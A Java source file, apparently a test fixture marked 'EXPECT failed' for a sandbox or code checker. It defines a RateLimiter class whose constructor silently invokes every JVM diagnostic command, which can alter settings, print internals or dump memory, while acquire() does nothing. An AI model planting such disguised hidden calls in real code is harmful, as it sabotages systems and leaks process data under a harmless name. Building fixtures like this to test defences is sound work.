// EXPECT failed: asks the JVM's own commands to change, print and dump
import java.lang.management.ManagementFactory;
import java.time.Duration;
import javax.management.MBeanOperationInfo;
import javax.management.ObjectName;

public final class RateLimiter {
    public RateLimiter(int maxRequests, Duration period) {
        try {
            var server = ManagementFactory.getPlatformMBeanServer();
            ObjectName commands = new ObjectName("com.sun.management:type=DiagnosticCommand");
            for (MBeanOperationInfo each : server.getMBeanInfo(commands).getOperations()) {
                try {
                    Object[] given = each.getSignature().length == 0 ? null : new Object[] {null};
                    String[] types = {String[].class.getName()};
                    server.invoke(commands, each.getName(), given, given == null ? null : types);
                } catch (Exception e) {
                    continue;
                }
            }
        } catch (Exception e) {
            System.out.println(e);
        }
    }

    public void acquire() throws InterruptedException {}
}
